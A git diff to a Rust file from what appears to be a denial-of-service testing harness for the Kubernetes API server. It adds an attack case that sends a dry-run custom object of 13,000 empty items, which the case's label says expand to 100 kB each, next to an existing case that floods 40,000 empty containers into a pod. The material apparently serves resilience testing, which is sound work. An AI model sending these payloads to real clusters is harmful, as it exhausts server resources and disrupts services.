@@ -6,7 +6,7 @@ use super::{Attack, join_numbered, repeat};
 use crate::attack::AttackMethod::{Flood, SlowBodies};
 use crate::attack::AttackUser::{Privileged, Unprivileged};
 use crate::client::Prepared;
-use crate::dataset::{NAMESPACE, collection};
+use crate::dataset::{NAMESPACE, collection, expanding_objects};
 
 const REVIEWS: &str = "/apis/authorization.k8s.io/v1";
 const PROTOBUF: &str = "application/vnd.kubernetes.protobuf";
@@ -77,6 +77,16 @@ fn reviews() -> Vec<Attack> {
 
 fn elements() -> Vec<Attack> {
     vec![
+        Attack::new(
+            "custom object: 13,000 items with a default of 100 kB",
+            Flood(2),
+            Some(Privileged),
+            || {
+                let before = r#"{"apiVersion":"attacked.example.com/v1","kind":"Expanding","metadata":{"name":"a"},"items":["#;
+                let path = format!("{}?dryRun=All", expanding_objects());
+                vec![Prepared::post(path, repeat(before, "{}", 13_000, "]}"))]
+            },
+        ),
         Attack::new("pod: 40,000 empty containers", Flood(1), Some(Privileged), || {
             vec![Prepared::post(pods(), repeat(POD, "{}", 40_000, "]}}"))]
         }),
